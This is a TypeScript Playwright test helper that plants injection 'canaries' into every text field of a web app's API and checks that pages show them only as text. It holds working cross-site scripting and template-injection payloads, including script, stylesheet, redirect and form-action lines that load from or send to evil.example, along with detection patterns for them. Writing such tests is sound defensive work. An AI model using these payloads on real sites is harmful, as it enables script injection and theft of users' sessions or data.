// Canaries: texts that would do something if a page took them for more than text, and how they come into every field.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, type Page } from '@playwright/test';
import type { Answer, Asked } from './api.ts';
import type { Office } from './office.ts';
import { newPerson, type Person } from './people.ts';
import { person } from './roles.ts';
import type { Stint } from './stint.ts';

/** What no page says of itself: the product that a template would work out. */
const WORKED_OUT = '9449772114007';

/** Each is short enough for a name. The first ones are tried in every run. */
const ALL = [
  '</textarea></script><script>hit(1)</script><img src=x onerror=hit(1)><canary-x>',
  `"'><svg onload=hit(2) data-canary><canary-x onclick=hit(2)>{{1234567*7654321}}`,
  '<script>hit(3)</script><script src=//evil.example/x.js></script><canary-x>',
  'javascript:hit(4)//"><a href=javascript:hit(4) data-canary>',
  '{{1234567*7654321}}${1234567*7654321}#{1234567*7654321}<%=1234567*7654321%>',
  '</title></style></noscript></template><canary-x onmouseover=hit(6)>',
  '<iframe srcdoc="<script>top.hit(7)</script>"></iframe><canary-x>',
  '--><canary-x><!-- ]]><canary-x>',
  '<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>',
  '<form action=//evil.example><button data-canary autofocus onfocus=hit(10)>',
  '" autofocus onfocus=hit(11) style=position:fixed x="',
  '&lt;canary-x&gt;&#60;canary-x&#62;%3Ccanary-x%3E\\u003ccanary-x\\u003e',
  '<math><mtext><style><img src=x onerror=hit(13)></style><canary-x>',
  '<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style><canary-x>',
];

/** What turns text or hides in it: no field takes it. */
export const DECEPTIVE = ['\u202eevil', 'a\u2066b', 'a\u200bb', '\u3164', 'a\u{e0041}b', 'a\0b'];

/** One canary, and the mark by which it is found. */
export type Canary = { mark: string; text: string };

export function canaries(): Canary[] {
  const wanted = Number(process.env.STINT_CANARIES || 2);
  return ALL.slice(0, wanted).map((text, at) => ({ mark: `c${100 + at}`, text: `c${100 + at} ${text}` }));
}

type Schema = Answer;
type Path = Array<string | number>;

/** Plants canaries by the API: in every text that the document of the API says an operation takes. */
export class Planter {
  /** By operation: its fields, and whether the canary was taken there. */
  readonly fields = new Map<string, Map<string, boolean>>();

  private constructor(private readonly document: Answer) {}

  static async of(stint: Stint): Promise<Planter> {
    return new Planter(await (await fetch(`${stint.url}/api/openapi.json`)).json());
  }

  /** Every operation that takes text in its body. */
  operations(): string[] {
    const named = Object.values<Answer>(this.document.paths).flatMap((methods) => Object.values<Answer>(methods));
    return named.map(({ operationId }) => operationId).filter((id) => this.texts(id, {}).length > 0);
  }

  /**
   * Carries an operation out with the canary in every text that takes it. Where it is refused by name it gets what `base`
   * says. Gives the answer to what was taken.
   */
  async plant(by: Person, operation: string, ids: string[], base: Answer, canary: Canary): Promise<Answer> {
    const seen = this.fields.get(operation) ?? new Map<string, boolean>();
    this.fields.set(operation, seen);
    let left = this.texts(operation, base);
    for (const path of left) seen.set(path.join('.'), seen.get(path.join('.')) ?? false);
    for (const path of left) await this.refusesWhatDeceives(by, operation, ids, base, path);
    for (;;) {
      const { status, body } = await this.send(by, operation, ids, filled(base, left, canary));
      if (status < 300) return this.taken(seen, left, body);
      if (left.length === 0) throw new Error(`${operation} refuses what is sensible: ${status} ${JSON.stringify(body)}`);
      const named = [body, ...(body.more ?? [])].map(({ field }) => field).filter(Boolean) as string[];
      const refused = left.filter((path) => named.some((name) => path.join('_').includes(name) || path.includes(name)));
      if (refused.length) {
        left = left.filter((path) => !refused.includes(path));
        continue;
      }
      // What does not say which field it means is found by leaving out one, or else one after another.
      for (const one of left) {
        const rest = left.filter((path) => path !== one);
        const { status, body } = await this.send(by, operation, ids, filled(base, rest, canary));
        if (status < 300) return this.taken(seen, rest, body);
      }
      left = left.slice(1);
    }
  }

  private taken(seen: Map<string, boolean>, paths: Path[], body: Answer): Answer {
    for (const path of paths) seen.set(path.join('.'), true);
    return body;
  }

  private async refusesWhatDeceives(by: Person, operation: string, ids: string[], base: Answer, path: Path): Promise<void> {
    for (const text of DECEPTIVE) {
      const value = path.at(-1) === 'scope' ? `/${text}` : text;
      const { status, body } = await this.send(by, operation, ids, changed(base, path, value));
      const what = `${operation}: ${JSON.stringify(text)} as ${path.join('.')} is answered ${status} ${JSON.stringify(body)}`;
      expect(status >= 400 && status < 500, what).toBe(true);
    }
  }

  private send(by: Person, operation: string, ids: string[], body: Answer): Promise<Asked> {
    const [path, method] = this.place(operation);
    const rest = [...ids];
    return by.api.ask(method, path.replace(/\{\w+\}/g, () => rest.shift()!), body);
  }

  private place(operation: string): [string, string] {
    for (const [path, methods] of Object.entries<Answer>(this.document.paths)) {
      for (const [method, { operationId }] of Object.entries<Answer>(methods)) {
        if (operationId === operation) return [path, method.toUpperCase()];
      }
    }
    throw new Error(`no such operation: ${operation}`);
  }

  private texts(operation: string, base: Answer): Path[] {
    const [path, method] = this.place(operation);
    const schema = this.document.paths[path][method.toLowerCase()].requestBody?.content?.['application/json']?.schema;
    return schema ? this.within(schema, base, []) : [];
  }

  private isObject(schema: Schema): boolean {
    if (schema.$ref) return this.isObject(this.document.components.schemas[schema.$ref.split('/').at(-1)]);
    const several = [...(schema.allOf ?? []), ...(schema.oneOf ?? []), ...(schema.anyOf ?? [])];
    return schema.properties !== undefined || several.some((one: Schema) => this.isObject(one));
  }

  /** The places of all free texts; of lists, those that `base` holds. */
  private within(schema: Schema, base: Answer, at: Path): Path[] {
    if (schema.$ref) return this.within(this.document.components.schemas[schema.$ref.split('/').at(-1)], base, at);
    const several = [...(schema.allOf ?? []), ...(schema.oneOf ?? []), ...(schema.anyOf ?? [])];
    const found = several.flatMap((one: Schema) => this.within(one, base, at));
    const kinds = [schema.type].flat();
    if (kinds.includes('string') && !schema.format && !schema.enum && !schema.pattern && schema.const === undefined) found.push(at);
    for (const [name, inner] of Object.entries<Schema>(schema.properties ?? {})) {
      // An object that is null in the request stays away as a whole: half of it would not be understood.
      const isAbsent = base?.[name] === null && this.isObject(inner);
      if (!isAbsent) found.push(...this.within(inner, base?.[name], [...at, name]));
    }
    if (schema.items) (base ?? []).forEach((item: Answer, index: number) => found.push(...this.within(schema.items, item, [...at, index])));
    return found;
  }
}

function changed(base: Answer, path: Path, value: string): Answer {
  const whole = structuredClone(base);
  let inside = whole;
  for (const step of path.slice(0, -1)) inside = inside[step] ??= {};
  inside[path.at(-1)!] = value;
  return whole;
}

function filled(base: Answer, paths: Path[], canary: Canary): Answer {
  return paths.reduce((body, path) => changed(body, path, fitting(path, canary)), base);
}

/** The canary in the shape that a field has. */
function fitting(path: Path, { mark, text }: Canary): string {
  if (path.includes('scope')) return `/${text}`;
  if (path.includes('link')) return `https://evil.example/${mark}'onclick=hit(0)//{{1234567*7654321}}`;
  if (path.includes('addresses')) return `${mark}'{{1234567*7654321}}@halden.example`;
  if (path.includes('ticket') || path.includes('system') || path.includes('example')) return text.slice(0, 64);
  return text;
}

/** An organisation whose every word is a canary; like an office, so that every page has something to show. */
export async function infested(stint: Stint, marta: Person, priya: Person, planter: Planter, canary: Canary): Promise<Office> {
  const { mark } = canary;
  const why = `${mark} is what it is about`;
  const plant = (by: Person, operation: string, ids: string[], base: Answer) => planter.plant(by, operation, ids, base, canary);
  const kenji = await newPerson(stint, marta, { name: canary.text, signInName: mark, kind: 'guest', agent: canary.text });
  const { id: group } = await plant(marta, 'group.create', [], { name: mark, description: '' });
  const { version } = await marta.api.get(`/groups/${group}`);
  await plant(marta, 'group.change', [group], { name: mark, description: '', version });
  await marta.api.post(`/groups/${group}/members`, { person: kenji.id });
  const guest = { kind: 'guest', name: mark, sign_in_name: `${mark}-guest`, addresses: [`${mark}@halden.example`], zone: null };
  const { id: other } = await plant(marta, 'person.create', [], guest);
  const change = { kind: 'guest', name: mark, addresses: [`${mark}@halden.example`], version: (await marta.api.get(`/people/${other}`)).version };
  await plant(marta, 'person.change', [other], change);
  const role = await plant(marta, 'role.create', [], { key: `role-${mark}`, name: mark, description: '', level: 'high', link: null });
  const shown = await marta.api.get(`/roles/${role.id}`);
  const words = { name: mark, description: '', level: 'high', link: null, version: shown.version };
  await plant(marta, 'role.change', [role.id], words);
  const settings = structuredClone(shown.settings);
  settings.activation.ticket = { system: 'Jira', pattern: '', example: 'OPS-1' };
  settings.approval.required = true;
  settings.approval.stages[0].approvers = [person(priya), person(marta)];
  await plant(marta, 'role_settings.change', [role.id], { settings, version: shown.settings_version });
  const assign = (principal: Answer, more: Answer = {}) =>
    plant(marta, 'assignment.make', [], { role: role.id, principal, kind: 'eligible', scope: null, justification: why, ...more });
  const { id: assignment } = await assign(person(kenji));
  const { id: second } = await assign({ kind: 'group', id: group });
  const ends_at = new Date(Date.now() + 5 * 24 * 3600_000).toISOString();
  await plant(marta, 'assignment.change', [second], { ends_at, justification: why, version: (await marta.api.get(`/assignments/${second}`)).version });
  const { id: third } = await assign({ kind: 'person', id: other });
  await plant(marta, 'assignment.remove', [third], { justification: why });
  const { scope } = await marta.api.get(`/assignments/${assignment}`);
  const ask = async () =>
    (await plant(kenji, 'activation.request', [], { role: role.id, scope, duration: 'PT1H', starts_at: null, justification: why, ticket: 'OPS-1' })).id;
  const decide = async (verb: string, id: string) => {
    const { digest } = await priya.api.get(`/activations/${id}`);
    await plant(priya, `activation.${verb}`, [id], { digest, justification: why });
  };
  await decide('deny', await ask());
  await plant(kenji, 'activation.cancel', [await ask()], { justification: why });
  for (const [end, by] of [['revoke', marta], ['deactivate', kenji]] as const) {
    const id = await ask();
    await decide('approve', id);
    await plant(by, `activation.${end}`, [id], { justification: why });
  }
  const active = await ask();
  await decide('approve', active);
  // Another scope than the whole, or one's own group, covers the same: one live request at a time.
  const { id: elsewhere } = await plant(marta, 'role.create', [], { key: `second-${mark}`, name: mark, description: '', level: 'high', link: null });
  const fresh = await marta.api.get(`/roles/${elsewhere}`);
  await marta.api.put(`/roles/${elsewhere}/settings`, { settings: { ...settings }, version: fresh.settings_version });
  await marta.api.post('/assignments', { role: elsewhere, principal: person(kenji), kind: 'eligible', justification: canary.text });
  const waiting = await plant(kenji, 'activation.request', [], {
    role: elsewhere,
    scope: null,
    duration: 'PT1H',
    starts_at: null,
    justification: why,
    ticket: 'OPS-1',
  });
  await plant(marta, 'audit.export', [], { format: 'csv', text: mark });
  const { messages } = await marta.api.get('/outbox');
  const key = `role-${mark}`;
  return { marta, priya, kenji, group, role: { id: role.id, key, name: canary.text }, assignment, waiting: waiting.id, active, message: messages[0].id };
}

/** Lets every page of this browser remember what ran there that should not. */
export async function watch(page: Page): Promise<string[]> {
  const found: string[] = [];
  const own = (address: string) => /^(data:|blob:|about:)/.test(address) || new URL(address).host === new URL(page.url() === 'about:blank' ? address : page.url()).host;
  page.on('dialog', (dialog) => {
    found.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (!own(request.url())) found.push(`a request to ${request.url()}`);
  });
  await page.addInitScript(() => {
    const hits: string[] = [];
    Object.assign(window, { hits, hit: (number: number) => hits.push(`canary ${number} ran`) });
    document.addEventListener('securitypolicyviolation', (event) => hits.push(`refused by policy: ${event.violatedDirective} ${event.blockedURI}`));
  });
  return found;
}

/** No canary became an element, an attribute, a link that runs something, or the result of a template. */
export async function expectOnlyText(page: Page, found: string[], where: string): Promise<void> {
  const there = await page.evaluate((product) => {
    const wrong: string[] = [...((window as unknown as { hits?: string[] }).hits ?? [])];
    const frames = ['iframe', 'frame', 'object', 'embed', 'base', 'math'];
    for (const element of document.querySelectorAll('*')) {
      const tag = element.localName;
      const start = () => element.outerHTML.slice(0, 200);
      if (tag.startsWith('canary') || frames.includes(tag) || (tag === 'meta' && element.getAttribute('http-equiv') === 'refresh')) wrong.push(start());
      for (const { name, value } of element.attributes) {
        if (/^on|^srcdoc$|^data-canary$/i.test(name)) wrong.push(start());
        if (/^(href|src|action|formaction|xlink:href|ping|poster)$/i.test(name) && /^[\s\0-\x20]*(javascript|vbscript|data:text)/i.test(value)) wrong.push(start());
        if (/^(src|action|formaction)$/i.test(name) && /evil\.example/.test(value) && /^(https?:)?\/\//.test(value)) wrong.push(start());
      }
      if (tag === 'script' && /evil\.example/.test(element.getAttribute('src') ?? '')) wrong.push(start());
      if ((tag === 'link' || tag === 'style') && /evil\.example|display:none}/.test(element.outerHTML)) wrong.push(start());
    }
    if (document.documentElement.textContent?.includes(product)) wrong.push(`a template worked out ${product}`);
    return wrong;
  }, WORKED_OUT);
  expect([...there, ...found.splice(0)], where).toEqual([]);
}

/** The paths of all server functions, as the table of endpoints has them. */
export function serverFunctions(): string[] {
  const table = readFileSync(join(__dirname, '../../docs/endpoints.md'), 'utf8');
  return [...new Set([...table.matchAll(/^\| (\/fn\/[\w/]+)/gm)].map((match) => match[1]!))];
}
